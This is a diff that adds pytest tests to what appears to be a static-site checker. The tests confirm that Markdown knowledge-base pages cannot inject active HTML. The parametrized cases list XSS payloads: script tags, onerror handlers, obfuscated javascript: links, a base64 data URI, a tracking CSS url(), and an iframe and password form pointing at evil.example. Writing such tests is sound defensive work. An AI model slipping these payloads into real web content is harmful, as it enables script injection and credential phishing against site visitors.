@@ -726,3 +726,48 @@ def test_hostile_word_templates_are_findings(scratch_project: Scratch, run_cli, 
     assert code == 1 and re.search(r"^templates/crc\.docx:\d+: error: ", stdout, re.M), stdout + stderr
     assert "test_hardening" not in stdout and "_hostile_templates" not in stdout  # the entity was never read
     assert not (tmp_path / "site").exists()
+
+
+KB_PAGE = """\
+---
+title: Objection prix
+tags: [prix]
+---
+# Objection prix
+
+Réponse <kbd>courte</kbd>, prix < 30 000 €, voir <https://intranet.example/prix> ou <zoe@vendor.example>.
+
+<div class="grid cards" markdown>
+<details><summary>Script</summary>Reformuler, puis chiffrer.</details>
+</div>
+
+Exemple à ne pas copier : `<script>alert(1)</script>`
+
+```html
+<script>alert("dans un bloc de code")</script>
+```
+"""
+
+
+@pytest.mark.parametrize("line, needle", [
+    ("<script>alert(1)</script>", "raw HTML <script> is not allowed"),
+    ("<iframe src=\"https://evil.example\"></iframe>", "raw HTML <iframe> is not allowed"),
+    ("<img src=x onerror=alert(1)>", "event attribute (on…=) in <img>"),
+    ("[clic](javascript:alert(1))", "link 'javascript:alert(1' runs code"),
+    ("[clic](&#106;avascript:alert(1))", "runs code"),
+    ("[ref]: JAVASCRIPT:alert(1)", "runs code"),
+    ("<a href=\"java&#9;script:alert(1)\">x</a>", "in <a> runs code"),
+    ("<img src=\"data:text/html;base64,PHNjcmlwdD4=\">", "in <img> runs code or embeds a document"),
+    ("<span style=\"background:url(https://tracker.example/p.gif)\">x</span>", "style attribute loading"),
+    ("<form action=\"https://evil.example\"><input name=pwd></form>", "raw HTML <form> is not allowed"),
+])
+def test_kb_pages_cannot_inject_active_html(scratch_project: Scratch, run_cli, tmp_path: Path,
+                                            line: str, needle: str) -> None:
+    scratch_project.crc()
+    scratch_project.write("content/kb/prix.md", KB_PAGE)
+    assert check(run_cli, scratch_project) == (0, [])  # layout HTML, autolinks and code are fine
+    scratch_project.write("content/kb/prix.md", KB_PAGE.replace("Exemple à ne pas copier", line + "\n\nExemple"))
+    code, findings = check(run_cli, scratch_project)
+    hit = one(findings, needle)
+    assert code == 1 and (hit["path"], hit["line"]) == ("content/kb/prix.md", 13)
+    assert build(run_cli, scratch_project, tmp_path / "site")[0] == 1 and not (tmp_path / "site").exists()
